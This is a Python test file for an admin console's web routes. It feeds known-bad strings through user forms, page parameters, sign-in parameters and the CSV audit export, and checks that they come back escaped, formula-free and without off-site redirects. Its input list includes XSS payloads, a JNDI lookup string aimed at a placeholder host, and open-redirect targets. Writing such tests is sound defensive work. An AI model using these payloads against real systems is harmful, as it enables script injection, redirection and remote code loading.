"""Strings that have broken others, through every field that takes text: they stay text wherever they are shown."""

import csv
import io
from html import unescape
from urllib.parse import urlsplit

import httpx2
import pytest

from entrada.web.routes.admin.schemas import FILTER, PEOPLE, PLACE, WHEN
from tests.administration.site import ADA, ADMIN, AdminSite, somebody
from tests.administration.test_log import FORMULAS, NAUGHTY

STRINGS = (
    *NAUGHTY, *FORMULAS, "\"><svg onload=alert(1)>", "' onfocus='alert(1)' autofocus='", "javascript:alert(1)",
    "</title><b>", "undefined", "1e1000", "0x0", "-0", "NaN", "[]", "{}", "${jndi:ldap://x.example/a}", "\x7f\x80",
    "\u2028", "a" * 150, "://", "//evil.example", "/\\evil.example", "\ufdfd" * 20, "Z\u0351\u036b\u0343", "ﷺ", "۰۱۲",
    "¯\\_(ツ)_/¯", "\U000e0041",
)  # fmt: skip
LOGIN = ("login_hint", "domain_hint", "ui_locales", "flow", "with", "again", "remember", "prompt")
OTHERS = {"callback": ("state", "code", "error", "error_description", "iss"), "failed": ("why",), "step-up": ("for",),
          "resume": ("of",), "frontchannel-logout": ("iss", "sid")}  # fmt: skip
PAGES = ("/admin", "/admin/users", "/admin/audit", "/admin/audit/new", "/admin/tenants", "/admin/system", "/account")
ASKED = sorted({*PEOPLE, *FILTER, *PLACE, *WHEN, "period", "done", "person"})
FORM = {"accept": "text/html", "sec-fetch-mode": "navigate"}


def shown_as_text(page: httpx2.Response, text: str) -> bool:
    """Say whether the text is on the page, with nothing in it that a browser would take for markup."""
    marked = any(mark in text for mark in "<>\"'")
    return text.strip() in unescape(page.text) and not (marked and text in page.text)


@pytest.mark.parametrize("every", [4, pytest.param(1, marks=pytest.mark.long)])
async def test_what_is_written_by_form_is_shown_as_text(console: AdminSite, every: int) -> None:
    """SEC-142, SEC-143: name, department, job title and role, on each page that shows them, and found by search."""
    ada, person = await console.of(ADA), await somebody(console)
    path = f"/admin/users/{person.id}"
    for number, text in enumerate(STRINGS[::every]):
        fields = {"name": f"N{text}", "department": text, "job_title": text}
        edited = await ada.post(f"{path}/edit", data=fields, headers=FORM)
        granted = await ada.post(f"{path}/grant", data={"role": text}, headers=FORM)
        assert edited.status_code == 303, text
        is_a_name = text.strip().isprintable() and 1 <= len(text.strip()) <= 128
        assert granted.status_code == (303 if is_a_name else 400), text
        place = (path, f"{path}/delete", "/admin/users")[number % 3]
        page = await ada.get(place, headers=FORM)
        assert page.status_code == 200
        assert shown_as_text(page, f"N{text}"), (place, text)
        found = (await ada.get(f"{ADMIN}/users/{person.id}")).json()
        assert (found["display_name"], found["department"], found["job_title"]) == (f"N{text}", text, text)
        assert found["roles"] == ([text.strip()] if granted.status_code == 303 else [])
        if found["roles"]:
            assert (await ada.post(f"{path}/revoke", data={"role": text}, headers=FORM)).status_code == 303
    assert (await ada.get(f"{ADMIN}/users/{person.id}")).json()["roles"] == []


async def test_no_formula_of_a_role_or_a_name_leaves_in_a_file(console: AdminSite) -> None:
    """SEC-142: what was granted and renamed above, in the file of the whole log, begins no cell as formulas do."""
    ada, person = await console.of(ADA), await somebody(console)
    for text in FORMULAS:
        data = {"name": text, "department": text, "job_title": text}
        assert (await ada.post(f"/admin/users/{person.id}/edit", data=data, headers=FORM)).status_code == 303
        assert (await ada.put(f"{ADMIN}/users/{person.id}/roles/{text.strip()}")).status_code in {200, 404}
    exported = (await ada.get(f"{ADMIN}/audit-logs/export", params={"about": str(person.id)})).text
    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
    assert any("SUM(A1)" in cell for cell in cells)
    assert [cell for cell in cells if cell.lstrip()[:1] in set("=+-@|%\uff1d\uff0b\uff0d\uff20")] == []


@pytest.mark.parametrize("place", PAGES)
async def test_what_is_asked_of_a_page_is_answered_or_refused(console: AdminSite, place: str) -> None:
    """SEC-142, SEC-143: every parameter of the console's pages; nothing of it comes back as markup."""
    ada = await console.of(ADA)
    for number, text in enumerate(STRINGS):
        asked = dict.fromkeys(ASKED[number % 3 :: 3], text)
        page = await ada.get(place, params=asked, headers=FORM)
        assert page.status_code in {200, 400, 404}, (place, asked)
        assert "<svg onload" not in page.text
        assert "<script>alert" not in page.text
        assert "' onfocus='" not in page.text


async def test_what_a_sign_in_is_begun_with_leads_nowhere_else(console: AdminSite) -> None:
    """SEC-118, SEC-177: every parameter of signing in; the answer is a page, a refusal, or leads to the authority."""
    stranger = await console.site.stranger()
    for number, text in enumerate(STRINGS):
        for name in ("return_to", *LOGIN[number % 4 :: 4]):
            answer = await stranger.get("/api/auth/login", params={name: text}, headers=FORM)
            assert answer.status_code in {200, 302, 400, 404}, (name, text)
            if answer.status_code == 302:
                assert urlsplit(answer.headers["location"]).hostname == "login.microsoftonline.com"
        for place, names in list(OTHERS.items())[number % 2 :: 2]:
            answer = await stranger.get(f"/api/auth/{place}", params=dict.fromkeys(names, text), headers=FORM)
            assert answer.status_code < 500, (place, text)
            assert urlsplit(answer.headers.get("location", "/")).hostname in {None, "localhost"}
            assert "<svg onload" not in answer.text
